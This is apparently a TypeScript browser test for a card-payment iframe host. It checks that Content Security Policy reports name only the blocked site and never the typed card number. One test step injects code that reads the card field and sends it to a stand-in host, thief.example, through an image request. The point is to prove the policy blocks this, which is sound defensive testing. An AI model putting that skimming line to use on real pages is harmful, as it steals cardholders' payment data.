/** The reports that a browser sends when a policy stops something inside the frame. */
import { type PolicyReport, readAssets, startHost } from "@cardpane/host";
import { expect, test } from "../support/fixtures.ts";
import { merchantPage, paneTag } from "../support/pages.ts";
import { goodCard, openPane } from "../support/pane-object.ts";

test("a host that collects reports learns what a policy stopped, and nothing that was typed [T-C17]", async ({
  page,
  stack,
  watch,
}) => {
  const reports: PolicyReport[] = [];
  const host = await startHost({
    port: 0,
    environments: { sandbox: stack.gateway },
    parents: [stack.site.url],
    reports: "collect",
    onReport: (report) => reports.push(report),
  });
  watch.known.push(host.url, "http://thief.example:4242/");
  watch.expectedErrors.push(/Content Security Policy/);
  const { version } = readAssets();
  const pane = await openPane(
    page,
    stack,
    merchantPage({ ...stack, pane: host.url, release: `${host.url}/${version}/` }, paneTag()),
  );
  try {
    await test.step("a payment violates nothing", async () => {
      await pane.type(goodCard);
      expect((await pane.tokenize()).error).toBeUndefined();
    });
    await test.step("a foreign request is reported by its site alone", async () => {
      await pane.type(goodCard);
      await pane.frame().evaluate(() => {
        const typed = document.querySelector<HTMLInputElement>("input")?.value;
        new Image().src = `http://thief.example:4242/${typed}?number=${typed}`;
      });
      await expect.poll(() => reports.length).toBe(1);
    });
    expect(reports).toMatchObject([
      {
        kind: "csp",
        document: `/${version}/frame`,
        release: version,
        directive: "img-src",
        blocked: "http://thief.example",
        disposition: "enforce",
      },
    ]);
    const typed = await pane.field("number").inputValue();
    expect(typed).toMatch(/\d{4}/);
    const { time: _, ...kept } = reports[0] ?? { time: "" };
    for (const secret of [typed, typed.replaceAll(" ", ""), "4242", "?", "environment"])
      expect(JSON.stringify(kept)).not.toContain(secret);
  } finally {
    await host.close();
  }
});
